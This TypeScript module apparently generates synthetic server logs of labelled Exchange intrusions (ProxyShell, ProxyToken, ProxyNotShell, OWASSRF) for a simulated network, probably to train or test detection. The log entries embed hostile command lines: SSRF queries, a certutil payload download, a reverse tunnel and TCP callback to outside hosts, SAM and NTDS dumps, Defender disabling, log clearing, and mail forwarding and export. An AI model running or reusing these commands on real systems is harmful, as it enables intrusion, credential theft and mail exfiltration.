import { collectedFile, oneLineShell } from './files.ts'
import type { LabelNames, Mark } from './output.ts'
import { CMD, HOUR, MINUTE, SYSTEM32, utc, W3WP, type Outsider, type Planned } from './plan.ts'
import type { World } from './world.ts'

function marked(chain: string, actor: string, stage: string, names: LabelNames = {}): Mark {
  return { class: 'attack', chain, actor, stage, names }
}

/** Writes an Autodiscover SSRF request, with a back-end path after a mail address, to the logs of the proxy and of both web sites. */
function confused(
  world: World,
  time: number,
  who: Outsider,
  mark: Mark,
  target: string,
  query: string,
  status: number,
  user?: string,
): void {
  world.request(
    time,
    {
      protocol: 'Autodiscover',
      method: 'POST',
      stem: '/autodiscover/autodiscover.json',
      query,
      client: who.address,
      agent: who.agent,
      status,
      backEndStatus: status < 400 ? status : null,
      ...(user === undefined ? {} : { user }),
      backEnd: status < 400 ? { stem: target, query: '-', user: user ?? 'NT+AUTHORITY\\SYSTEM' } : null,
    },
    { proxy: mark, front: mark, back: mark },
  )
}

/** Returns the query of an Autodiscover SSRF request for a back-end path, with `more` as the query behind that path. */
function behindAt(path: string, more = ''): string {
  return `@outside.example/${path}?${more}&Email=autodiscover/autodiscover.json%3f@outside.example`
}

/** Writes a cmdlet to the event log and to the cmdlet log. */
function ran(world: World, time: number, name: string, parameters: string, mark: Mark): void {
  world.cmdlet(
    time,
    name,
    parameters,
    'corp.example/Users/Administrator',
    'w3wp#MSExchangePowerShellAppPool',
    mark,
  )
}

/** Sends a command to a web shell, whereupon the web server starts a program. */
export function commands(
  world: World,
  start: number,
  who: Outsider,
  chain: string,
  shell: string,
  lines: readonly (readonly [line: string, tool: string, command: string])[],
  pool: string,
): Planned[] {
  const mark = (stage: string): Mark => marked(chain, who.id, stage)
  const poolCommand = `${W3WP.toLowerCase()} -ap "${pool}" -v "v4.0"`
  return lines.flatMap(([line, tool, command], i): Planned[] => {
    const time = start + i * 3 * MINUTE
    const shellLine = `"cmd" /c cd /d "C:/inetpub/wwwroot/aspnet_client"&${line}&echo [S]&cd&echo [E]`
    return [
      [
        time,
        (t) =>
          world.request(
            t,
            {
              protocol: 'Owa',
              method: 'POST',
              stem: shell,
              client: who.address,
              agent: who.agent,
              status: 200,
              backEndStatus: null,
              taken: 730,
            },
            { proxy: mark('shell-request'), front: mark('shell-request') },
          ),
      ],
      [
        time - 300,
        (t) =>
          world.process(
            t,
            { image: CMD, command: shellLine, parent: W3WP, parentCommand: poolCommand },
            mark('process'),
          ),
      ],
      [
        time - 250,
        (t) =>
          world.process(
            t,
            { image: `${SYSTEM32}${tool}`, command, parent: CMD, parentCommand: shellLine },
            mark('process'),
          ),
      ],
    ]
  })
}

/** ProxyShell from the first check to a web shell and commands, in the order of published intrusions. */
export function proxyShell(world: World): Planned[] {
  const who: Outsider = { id: 'p1', address: '198.51.100.31', agent: 'python-requests/2.26.0' }
  const mark = (stage: string): Mark => marked('proxyshell', who.id, stage)
  const start = utc('2021-08-21T02:14:08.120')
  const shell = '\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\kdfw3.aspx'
  const token = 'X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBFhZG1pbkBjb3JwLmV4YW1wbGU='
  const list: Planned[] = [
    [start, (t) => confused(world, t, who, mark('backend'), '/mapi/nspi/', behindAt('mapi/nspi/'), 200)],
    [
      start + 2_000,
      (t) =>
        confused(
          world,
          t,
          who,
          mark('backend'),
          '/autodiscover/autodiscover.xml',
          behindAt('autodiscover/autodiscover.xml'),
          200,
        ),
    ],
    [
      start + 3_100,
      (t) => confused(world, t, who, mark('backend'), '/mapi/emsmdb/', behindAt('mapi/emsmdb/'), 200),
    ],
  ]
  for (let i = 0; i < 7; i++) {
    list.push([
      start + 6_000 + i * 4_500,
      (t) => {
        const query = behindAt('powershell/', token)
        confused(world, t, who, mark('powershell'), '/powershell', query, 200)
        world.text.remotePowerShell(
          t,
          {
            RequestId: world.random.guid(),
            UrlHost: `${world.server.fqdn}:444`,
            UrlStem: '/powershell/',
            AuthenticationType: 'Kerberos',
            IsAuthenticated: 'true',
            AuthenticatedUser: 'CORP\\Administrator',
            ClientIpAddress: 'fe80::1%3',
            FrontEndServer: world.server.fqdn,
            HttpStatus: 200,
            Action: 'Command',
            UrlQuery: `?${token}&Email=autodiscover/autodiscover.json?@outside.example`,
          },
          marked('proxyshell', who.id, 'powershell', { path: ['/powershell/'] }),
        )
      },
    ])
  }
  list.push(
    [
      start + 14_000,
      (t) =>
        ran(
          world,
          t,
          'New-ManagementRoleAssignment',
          '-Role "Mailbox Import Export" -User "Administrator"',
          mark('role'),
        ),
    ],
    [
      start + 24_000,
      (t) =>
        ran(
          world,
          t,
          'New-MailboxExportRequest',
          `-Mailbox "Administrator" -IncludeFolders "#Drafts#" -ContentFilter "(Subject -eq 'kdfw3')" -FilePath "${shell}"`,
          {
            ...marked('proxyshell', who.id, 'export', { file: [shell], mailbox: ['Administrator'] }),
            mailbox: 'administrator',
          },
        ),
    ],
    [
      start + 31_000,
      (t) =>
        world.fileCreated(
          t,
          `${world.server.install}Bin\\MSExchangeMailboxReplication.exe`,
          'C:\\inetpub\\wwwroot\\aspnet_client\\kdfw3.aspx',
          mark('shell-file'),
        ),
    ],
    [
      start + 36_000,
      (t) =>
        ran(
          world,
          t,
          'Remove-MailboxExportRequest',
          '-Identity "Administrator\\MailboxExport" -Confirm "False"',
          mark('removal'),
        ),
    ],
    ...commands(
      world,
      start + 3 * MINUTE,
      who,
      'proxyshell',
      '/aspnet_client/kdfw3.aspx',
      [
        ['whoami', 'whoami.exe', 'whoami'],
        ['quser', 'quser.exe', 'quser'],
        ['nltest /domain_trusts', 'nltest.exe', 'nltest /domain_trusts'],
      ],
      'DefaultAppPool',
    ),
  )
  return list
}

/** Another actor tries ProxyShell without success. */
export function proxyShellTried(world: World): Planned[] {
  const who: Outsider = { id: 'p2', address: '203.0.113.88', agent: 'Go-http-client/1.1' }
  return [401, 403, 404, 400].map((status, i): Planned => [
    utc('2021-08-19T13:05:00') + i * 2 * HOUR,
    (t) =>
      confused(
        world,
        t,
        who,
        marked('proxyshell', who.id, 'probe'),
        '',
        behindAt(i % 2 === 0 ? 'mapi/nspi/' : 'powershell/'),
        status,
      ),
  ])
}

/** ProxyToken: creates an inbox rule that forwards mail without a sign-in. */
export function proxyToken(world: World): Planned[] {
  const who: Outsider = {
    id: 't1',
    address: '198.51.100.45',
    agent: 'Mozilla/5.0 (X11; Linux x86_64) Firefox/91.0',
  }
  const mark = (stage: string): Mark => marked('proxytoken', who.id, stage)
  const start = utc('2021-08-24T19:40:10.500')
  const ask = (time: number, method: string, path: string, status: number, stage: string): Planned => [
    time,
    (t) =>
      world.request(
        t,
        {
          protocol: 'Ecp',
          method,
          stem: `/ecp/user014@corp.example/${path}`,
          client: who.address,
          agent: who.agent,
          status,
        },
        { proxy: mark(stage), front: mark(stage) },
      ),
  ]
  return [
    ask(start, 'GET', 'PersonalSettings/HomePage.aspx', 500, 'token'),
    ask(start + 1_800, 'POST', 'RulesEditor/InboxRules.svc/NewObject', 200, 'rule'),
    [
      start + 1_900,
      (t) =>
        ran(world, t, 'New-InboxRule', '-Mailbox "user014" -Name "." -RedirectTo "box@outside.example"', {
          ...marked('proxytoken', who.id, 'forwarding', { mailbox: ['user014'] }),
          mailbox: 'user014',
        }),
    ],
  ]
}

/** ProxyNotShell: a stolen account reaches PowerShell, and a web shell is written beside the sign-in page. */
export function proxyNotShell(world: World): Planned[] {
  const who: Outsider = { id: 'n1', address: '198.51.100.52', agent: 'python-requests/2.28.1' }
  const mark = (stage: string): Mark => marked('proxynotshell', who.id, stage)
  const user = 'CORP\\user017'
  const start = utc('2022-11-12T04:22:31.700')
  const pool = `${W3WP.toLowerCase()} -ap "MSExchangePowerShellAppPool" -v "v4.0"`
  return [
    [start, (t) => confused(world, t, who, mark('probe'), '', behindAt('powershell/'), 401)],
    [
      start + 4_000,
      (t) => confused(world, t, who, mark('backend'), '/mapi/nspi/', behindAt('mapi/nspi/'), 302, user),
    ],
    ...Array.from({ length: 5 }, (_, i): Planned => [
      start + 9_000 + i * 2_500,
      (t) => confused(world, t, who, mark('powershell'), '/powershell', behindAt('%70owershell/'), 200, user),
    ]),
    [
      start + 20_000,
      (t) =>
        world.process(
          t,
          { image: CMD, command: 'cmd /c whoami', parent: W3WP, parentCommand: pool },
          mark('process'),
        ),
    ],
    [
      start + 26_000,
      (t) =>
        world.process(
          t,
          {
            image: `${SYSTEM32}certutil.exe`,
            command: 'certutil -urlcache -split -f http://198.51.100.53/r.txt C:\\Windows\\Temp\\r.txt',
            parent: CMD,
          },
          mark('process'),
        ),
    ],
    [
      start + 33_000,
      (t) =>
        world.fileCreated(
          t,
          W3WP,
          `${world.server.install}FrontEnd\\HttpProxy\\owa\\auth\\owafonts.aspx`,
          mark('shell-file'),
        ),
    ],
    ...commands(
      world,
      start + 5 * MINUTE,
      who,
      'proxynotshell',
      '/owa/auth/owafonts.aspx',
      [
        ['ipconfig /all', 'ipconfig.exe', 'ipconfig /all'],
        ['net group "Domain Admins" /domain', 'net.exe', 'net group "Domain Admins" /domain'],
      ],
      'MSExchangeOWAAppPool',
    ),
  ]
}

/** OWASSRF: a stolen account reaches PowerShell through Outlook on the web, and a tunnel follows. */
export function owaSsrf(world: World): Planned[] {
  const who: Outsider = {
    id: 'o1',
    address: '203.0.113.61',
    agent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/105.0.5195.54 Safari/537.36',
  }
  const mark = (stage: string): Mark => marked('owassrf', who.id, stage)
  const start = utc('2022-12-02T23:11:40.250')
  const ask = (time: number, status: number, stage: string): Planned => [
    time,
    (t) =>
      world.request(
        t,
        {
          protocol: 'Owa',
          method: 'POST',
          stem: '/owa/user017%40corp.example/powershell',
          client: who.address,
          agent: who.agent,
          user: 'CORP\\user017',
          status,
          backEndStatus: status < 400 ? status : null,
          backEnd: status < 400 ? { stem: '/powershell', query: '-', user: 'CORP\\user017' } : null,
        },
        { proxy: mark(stage), front: mark(stage), back: mark('backend') },
      ),
  ]
  return [
    ask(start, 401, 'probe'),
    ...Array.from({ length: 6 }, (_, i) => ask(start + 3_000 + i * 1_700, 200, 'powershell')),
    [
      start + 15_000,
      (t) =>
        world.process(
          t,
          {
            image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
            command: 'powershell.exe -nop -w hidden -File C:\\Windows\\Temp\\u.ps1',
            parent: W3WP,
          },
          mark('process'),
        ),
    ],
    [
      start + 4 * MINUTE,
      (t) =>
        world.process(
          t,
          {
            image: 'C:\\ProgramData\\plink.exe',
            command: 'plink.exe -N -R 3390:127.0.0.1:3389 u@203.0.113.62 -pw x',
            parent: CMD,
          },
          mark('control'),
        ),
    ],
  ]
}

const SUPPORT = 'S-1-5-21-1004336348-1177238915-682003330-1142'

/** Hands-on-keyboard activity after an intrusion, all of it on one evening. */
export function handsOn(world: World): Planned[] {
  const who: Outsider = {
    id: 'h1',
    address: '203.0.113.71',
    agent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/87.0.1125 Safari/537.36',
  }
  const { server } = world
  const chain = 'hands-on-keyboard'
  const mark = (stage: string): Mark => marked(chain, who.id, stage)
  const start = utc('2021-08-26T20:02:00')
  const tools = commands(
    world,
    start,
    who,
    chain,
    '/owa/auth/errorFS.aspx',
    [
      ['whoami', 'whoami.exe', 'whoami'],
      ['net user support Summer1 /add', 'net.exe', 'net user support Summer1 /add'],
      ['reg save', 'reg.exe', 'reg save HKLM\\SAM C:\\ProgramData\\s.dat'],
      ['ntdsutil', 'ntdsutil.exe', 'ntdsutil "ac i ntds" "ifm" "create full C:\\ProgramData\\n" q q'],
      [
        'schtasks',
        'schtasks.exe',
        'schtasks /create /tn VSPerfMon /tr C:\\ProgramData\\VSPerfMon\\x.bat /sc hourly /ru SYSTEM',
      ],
      ['sc stop WinDefend', 'sc.exe', 'sc stop WinDefend'],
      ['makecab', 'makecab.exe', 'makecab C:\\ProgramData\\s.dat C:\\inetpub\\wwwroot\\aspnet_client\\p.cab'],
      ['wevtutil cl Security', 'wevtutil.exe', 'wevtutil cl Security'],
    ],
    'MSExchangeOWAAppPool',
  )
  return [
    ...tools,
    [
      start + 5 * MINUTE,
      (t) =>
        world.events.write(
          t,
          'system',
          {
            provider: 'Service Control Manager',
            id: 7045,
            data: {
              ServiceName: 'msupdate',
              ImagePath: 'C:\\Windows\\Temp\\cw.exe',
              ServiceType: 'user mode service',
              StartType: 'auto start',
              AccountName: 'LocalSystem',
            },
          },
          marked(chain, who.id, 'persistence', {
            service: ['msupdate'],
            file: ['C:\\Windows\\Temp\\cw.exe'],
          }),
        ),
    ],
    [
      start + 3 * MINUTE + 400,
      (t) =>
        world.events.write(
          t,
          'security',
          {
            provider: 'Microsoft-Windows-Security-Auditing',
            id: 4720,
            level: 'audit',
            data: {
              TargetUserName: 'support',
              TargetDomainName: server.name,
              TargetSid: SUPPORT,
              SubjectUserName: `${server.name}$`,
            },
          },
          marked(chain, who.id, 'persistence', { account: ['support'] }),
        ),
    ],
    [
      start + 4 * MINUTE,
      (t) =>
        world.events.write(
          t,
          'security',
          {
            provider: 'Microsoft-Windows-Security-Auditing',
            id: 4732,
            level: 'audit',
            data: {
              MemberSid: SUPPORT,
              TargetUserName: 'Administrators',
              SubjectUserName: `${server.name}$`,
            },
          },
          mark('persistence'),
        ),
    ],
    ...Array.from({ length: 14 }, (_, i): Planned => [
      start - HOUR + i * 20_000,
      // One refused logon alone may be a mistyped password. Many together are password spraying.
      (t) => world.refusedLogon(t, `user${String(i).padStart(3, '0')}`, who.address),
    ]),
    [
      start - HOUR + 9 * MINUTE,
      (t) =>
        world.events.write(
          t,
          'security',
          {
            provider: 'Microsoft-Windows-Security-Auditing',
            id: 4624,
            level: 'audit',
            data: {
              TargetUserName: 'user004',
              TargetDomainName: server.domain,
              LogonType: { type: 'u32', number: 8 },
              AuthenticationPackageName: 'Negotiate',
              IpAddress: who.address,
            },
          },
          marked(chain, who.id, 'credentials', { account: ['user004'], address: [who.address] }),
        ),
    ],
    [
      start - 2 * MINUTE,
      (t) =>
        collectedFile(
          world,
          t,
          'C:\\inetpub\\wwwroot\\aspnet_client\\supp0rt.aspx',
          oneLineShell('orange'),
          mark('shell-file'),
        ),
    ],
    [
      start + 17 * MINUTE,
      (t) =>
        world.scriptBlock(
          t,
          'Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath C:\\ProgramData',
          mark('defences'),
        ),
    ],
    [start + 17 * MINUTE + 800, (t) => world.defender(t, 5001, {}, mark('defences'))],
    [
      start + 17 * MINUTE + 900,
      (t) =>
        world.defender(
          t,
          5007,
          {
            'Old Value': '',
            'New Value':
              'HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\ProgramData = 0x0',
          },
          mark('defences'),
        ),
    ],
    [
      start + 19 * MINUTE,
      (t) =>
        world.scriptBlock(
          t,
          "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.72',443); $s = $c.GetStream()",
          mark('control'),
        ),
    ],
    [
      start + 44 * MINUTE,
      (t) =>
        world.scriptBlock(
          t,
          'Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; Get-Mailbox | New-MailboxExportRequest',
          mark('mail'),
        ),
    ],
    [
      start + 3 * HOUR,
      (t) =>
        world.defender(
          t,
          1116,
          {
            'Threat Name': 'Backdoor:ASP/Chopper.G!dha',
            'Severity Name': 'Severe',
            Path: 'file:_C:\\inetpub\\wwwroot\\aspnet_client\\supp0rt.aspx',
            'Process Name': 'Unknown',
            'Detection User': 'NT AUTHORITY\\SYSTEM',
          },
          marked(chain, who.id, 'shell-file', {
            file: ['C:\\inetpub\\wwwroot\\aspnet_client\\supp0rt.aspx'],
          }),
        ),
    ],
    [
      start + 40 * MINUTE,
      (t) =>
        world.page(
          t,
          {
            method: 'GET',
            stem: '/aspnet_client/p.cab',
            client: who.address,
            agent: who.agent,
            status: 200,
            taken: 5_200,
          },
          mark('download'),
        ),
    ],
    [
      start + 45 * MINUTE,
      (t) =>
        ran(
          world,
          t,
          'New-MailboxExportRequest',
          '-Mailbox "director" -FilePath "\\\\localhost\\c$\\ProgramData\\d.pst"',
          {
            ...marked(chain, who.id, 'mail', {
              file: ['\\\\localhost\\c$\\ProgramData\\d.pst'],
              mailbox: ['director'],
            }),
            mailbox: 'director',
          },
        ),
    ],
  ]
}
